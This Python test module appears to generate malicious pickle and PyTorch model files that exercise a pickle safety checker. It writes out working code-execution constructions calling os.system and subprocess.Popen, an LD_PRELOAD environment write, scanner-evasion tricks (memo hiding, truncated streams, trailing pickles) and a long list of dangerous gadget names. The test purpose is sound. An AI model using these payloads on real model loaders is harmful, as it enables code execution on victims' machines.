"""Pickles that try to execute, once through each opcode that can. Python's own Unpickler runs most of them."""

# ruff: noqa: E501 - tables: one attack a line
from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from . import attack, payload
from .build import call, dict_of, legacy_file, list_of, name, number, put, stream, text, torch_zip, tuple_of

GADGETS = (
    "posix.system nt.system os.system os.popen os.execv os.removedirs os.path.os.system subprocess.Popen",
    "subprocess.call subprocess.check_output builtins.eval builtins.exec builtins.compile builtins.open",
    "builtins.__import__ builtins.getattr builtins.setattr builtins.delattr builtins.globals builtins.breakpoint",
    "builtins.vars builtins.memoryview builtins.type builtins.super builtins.print builtins.input",
    "__builtin__.eval __builtin__.file __builtin__.apply __builtin__.execfile commands.getoutput popen2.popen3",
    "runpy._run_code runpy.run_path code.InteractiveInterpreter cProfile.run timeit.timeit pdb.Pdb bdb.Bdb",
    "doctest.debug_script pty.spawn pip.main webbrowser.open antigravity.geohash importlib.import_module",
    "imp.load_source marshal.loads types.CodeType types.FunctionType ctypes.CDLL ctypes.string_at",
    "pickle.loads _pickle.loads pickle.Unpickler dill.loads cloudpickle.loads joblib.load shelve.open",
    "copyreg._reconstructor copyreg.add_extension copyreg.__newobj__ functools.partial functools.reduce",
    "operator.attrgetter operator.methodcaller operator.itemgetter itertools.starmap weakref.finalize",
    "atexit.register signal.signal threading.Thread multiprocessing.Process asyncio.run socket.create_connection",
    "urllib.request.urlopen http.client.HTTPConnection smtplib.SMTP ftplib.FTP shutil.rmtree shutil.copyfile",
    "pathlib.Path.write_text pathlib.Path.unlink tempfile.NamedTemporaryFile logging.config.dictConfig",
    "numpy.load numpy.testing._private.utils.runstring numpy.f2py.crackfortran.getlincoef numpy.fromfile",
    "torch.load torch.save torch.hub.load torch.jit.load torch.ops.load_library torch.storage._load_from_bytes",
    "torch.serialization.load torch.jit.unsupported_tensor_ops.execWrapper torch.utils.cpp_extension.load_inline",
    "torch.utils.bottleneck.__main__.run_cprofile torch.utils.data.datapipes.utils.decoder.basichandlers",
    "torch._dynamo.guards.GuardBuilder.get torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression",
    "torch.utils._config_module.load_config torch.distributed.rpc.internal._run_function torch.fx.graph_module._exec_with_source",
    "oneflow.load oneflow.save oneflow.framework.check_point_v2.load lib2to3.pgen2.pgen.ParserGenerator",
    "getpass.getpass sys.exit sys.setrecursionlimit sys.settrace gc.get_objects inspect.getsource test.support.script_helper",
)
"""What picklescan, fickling and modelscan look for, and a few more."""

for _gadget in " ".join(GADGETS).split():

    def _reduce(folder: Path, function: str = _gadget) -> Path:
        return save(folder, call(function, text(payload(folder))))

    attack(
        reports=(_gadget,),
        name=f"reduce_{_gadget}",
        tries=f"Calls `{_gadget}` by REDUCE when loaded.",
    )(_reduce)


def save(folder: Path, body: bytes, protocol: int = 2) -> Path:
    """A plain pickle, the least of containers."""
    path = folder / "model.pkl"
    path.write_bytes(stream(body, protocol))
    return path


def shell(folder: Path) -> bytes:
    """`os.system(payload)`."""
    return call("posix.system", text(payload(folder)))


def _in(container: str, build: Callable[[bytes], bytes], file_name: str) -> None:
    def write(folder: Path) -> Path:
        path = folder / file_name
        path.write_bytes(build(dict_of((text("weight"), shell(folder)))))
        return path

    attack(
        reports=("posix.system",),
        name=f"reduce_in_{container}",
        tries=f"Calls os.system in a file of the {container} form. PyTorch 1.13 and OneFlow 0.9 run it.",
    )(write)


_in("zip", torch_zip, "model.pth")
_in("legacy", lambda body: legacy_file(body, (), ()), "model.pth")


@attack(reports=("posix.system",))
def inst(folder: Path) -> Path:
    """INST calls a class named inside the opcode; torch 1.13's unpickler runs it."""
    return save(folder, b"(" + text(payload(folder)) + b"iposix\nsystem\n")


@attack(reports=("posix.system",))
def obj(folder: Path) -> Path:
    """OBJ calls the first object behind the mark."""
    return save(folder, b"(" + name("posix.system") + text(payload(folder)) + b"o")


@attack(reports=("subprocess.Popen",))
def newobj(folder: Path) -> Path:
    """NEWOBJ calls `cls.__new__`."""
    return save(folder, name("subprocess.Popen") + tuple_of(text(payload(folder))) + b"\x81")


@attack(reports=("subprocess.Popen",))
def newobj_ex(folder: Path) -> Path:
    """NEWOBJ_EX does the same with keywords: `Popen(command, shell=True)`."""
    keywords = dict_of((text("shell"), b"\x88"))
    return save(folder, name("subprocess.Popen") + tuple_of(text(payload(folder))) + keywords + b"\x92", 4)


@attack(reports=("os.path.os.system",))
def stack_global_dotted(folder: Path) -> Path:
    """STACK_GLOBAL with a dotted name walks attributes: `os` then `path.os.system`."""
    function = text("os") + text("path.os.system") + b"\x93"
    return save(folder, call(function, text(payload(folder))), 4)


@attack(refused="names a class by something other than text")
def stack_global_of_numbers(folder: Path) -> Path:
    """STACK_GLOBAL with numbers for names."""
    return save(folder, number(1) + number(2) + b"\x93", 4)


@attack(reports=("canary_module.run",))
def global_imports(folder: Path) -> Path:
    """Naming a class imports its module: here one that lies beside the file and runs on import."""
    (folder.parent / "canary_module.py").write_text(f"import os\nos.system({payload(folder)!r})\n", "utf-8")
    return save(folder, call("canary_module.run"))


for _code, _bytes in (("1", b"\x82\x01"), ("2", b"\x83\x01\x01"), ("4", b"\x84\x01\x01\x00\x00")):

    def _extension(folder: Path, opcode: bytes = _bytes) -> Path:
        return save(folder, opcode + tuple_of(text(payload(folder))) + b"R")

    attack(
        refused="needs code or data from outside",
        name=f"ext{_code}",
        tries=f"EXT{_code} names a class by a number that some library registered with copyreg.",
    )(_extension)


@attack(refused="needs code or data from outside")
def next_buffer(folder: Path) -> Path:
    """NEXT_BUFFER asks the loading program for an object."""
    return save(folder, b"\x97", 5)


@attack(refused="needs code or data from outside")
def readonly_buffer(folder: Path) -> Path:
    """READONLY_BUFFER wraps what is on the stack."""
    return save(folder, text("x") + b"\x98", 5)


@attack(refused="refers to an object outside the stream")
def persistent_id_text(folder: Path) -> Path:
    """PERSID hands a line of text to the loading program."""
    return save(folder, b"Pos.system\n")


@attack(refused="refers to something that is no storage")
def persistent_id_of_a_call(folder: Path) -> Path:
    """BINPERSID with the result of a call in place of a storage."""
    path = folder / "model.pth"
    path.write_bytes(torch_zip(tuple_of(shell(folder)) + b"Q"))
    return path


@attack(refused="sets the state of a Global")
def build_on_a_function(folder: Path) -> Path:
    """BUILD on `_rebuild_tensor_v2` itself: find_class returned it, so its attributes are changed (torch 1.13)."""
    state = dict_of((text("__code__"), shell(folder)))
    return save(folder, name("torch._utils._rebuild_tensor_v2") + state + b"b")


@attack(reports=("argparse.Namespace",))
def build_sets_dunders(folder: Path) -> Path:
    """BUILD gives an object a `__setstate__`, `__reduce__` and `__class__` of its own."""
    names = ("__setstate__", "__reduce__", "__class__", "__dict__", "__del__")
    state = dict_of(*((text(dunder), name("posix.system")) for dunder in names))
    return save(folder, call("argparse.Namespace") + state + b"b")


@attack(reports=("builtins.getattr",))
def call_of_a_result(folder: Path) -> Path:
    """Calls what a call returned: `getattr(os, "system")(...)`."""
    function = call("builtins.getattr", name("os.path"), text("system"))
    return save(folder, call(function, text(payload(folder))))


@attack(refused="calls something that is not a named function")
def call_of_a_container(folder: Path) -> Path:
    """Calls a list."""
    return save(folder, call(b"]", text(payload(folder))))


@attack(reports=("posix.system",))
def rebuild_from_type_calls(folder: Path) -> Path:
    """`_rebuild_from_type_v2(func, type, args, state)` of PyTorch calls what it is given."""
    args = (name("posix.system"), name("torch.Tensor"), tuple_of(text(payload(folder))), b"N")
    return save(folder, call("torch._tensor._rebuild_from_type_v2", *args))


@attack()
def defaultdict_factory(folder: Path) -> Path:
    """A defaultdict whose factory is `os.system`: runs at the first key that is missing."""
    return save(folder, call("collections.defaultdict", name("posix.system")))


@attack(reports=("posix.system",))
def appends_to_an_object(folder: Path) -> Path:
    """APPENDS calls the `extend` or `append` of any object."""
    return save(folder, shell(folder) + b"(" + text("x") + text("y") + b"e" + text("z") + b"a")


@attack(reports=("os.environ.__class__",))
def sets_items_of_an_object(folder: Path) -> Path:
    """SETITEM on an object that changes the process: `os.environ["LD_PRELOAD"]`."""
    return save(folder, call("os.environ.__class__") + text("LD_PRELOAD") + text("/tmp/x.so") + b"s")


@attack(refused="sets items of a Global")
def sets_items_of_a_global(folder: Path) -> Path:
    """SETITEM on what a name gives: `os.environ` itself, or `sys.modules`."""
    return save(folder, name("sys.modules") + text("os") + text("x") + b"s")


@attack(reports=("posix.system",))
def numpy_object_array(folder: Path) -> Path:
    """An array of dtype object holds pickled objects, here a call."""
    array = call("numpy.core.multiarray._reconstruct", name("numpy.ndarray"), tuple_of(number(0)), text("b"))
    dtype = call("numpy.dtype", text("O8"), b"\x89", b"\x88")
    state = tuple_of(number(1), tuple_of(number(1)), dtype, b"\x89", list_of(shell(folder)))
    return save(folder, array + state + b"b")


@attack(reports=("numpy.core.multiarray.scalar",))
def numpy_object_scalar(folder: Path) -> Path:
    """NumPy's `scalar` of dtype object unpickles the bytes it is given, without any restriction."""
    dtype = call("numpy.dtype", text("O8"), b"\x89", b"\x88")
    inner = stream(shell(folder))
    return save(folder, call("numpy.core.multiarray.scalar", dtype, b"B" + len(inner).to_bytes(4, "little") + inner))


@attack()
def module_source(folder: Path) -> Path:
    """A legacy module's persistent id carries source code, which nothing should run or write beside the file."""
    source = f"import os; os.system({payload(folder)!r})"
    pid = tuple_of(text("module"), name("__main__.Net"), text("/tmp/net.py"), text(source)) + b"Q"
    path = folder / "model.pth"
    path.write_bytes(legacy_file(dict_of((text("net"), pid)), (), ()))
    return path


@attack(reports=("posix.system",))
def hidden_by_pop(folder: Path) -> Path:
    """Calls, drops the result, and leaves an innocent dictionary: nothing shows in what is loaded."""
    return save(folder, shell(folder) + b"0" + dict_of((text("w"), number(1))))


@attack(reports=("posix.system",))
def hidden_in_the_memo(folder: Path) -> Path:
    """The function comes out of the memo, where a scanner of the last two strings does not see it."""
    return save(folder, name("posix.system") + put(7) + b"0" + b"h\x07" + tuple_of(text(payload(folder))) + b"R")


@attack(refused="the stream ends before its STOP")
def executes_before_it_breaks(folder: Path) -> Path:
    """Calls first and then breaks off: a scanner fails, a loader has run it (the "nullifAI" models of 2025)."""
    path = folder / "model.pkl"
    path.write_bytes(stream(shell(folder))[:-1])
    return path


@attack()
def second_pickle_behind(folder: Path) -> Path:
    """A second pickle behind the first, for loaders that go on reading."""
    path = folder / "model.pkl"
    path.write_bytes(stream(dict_of((text("w"), number(1)))) + stream(shell(folder)))
    return path
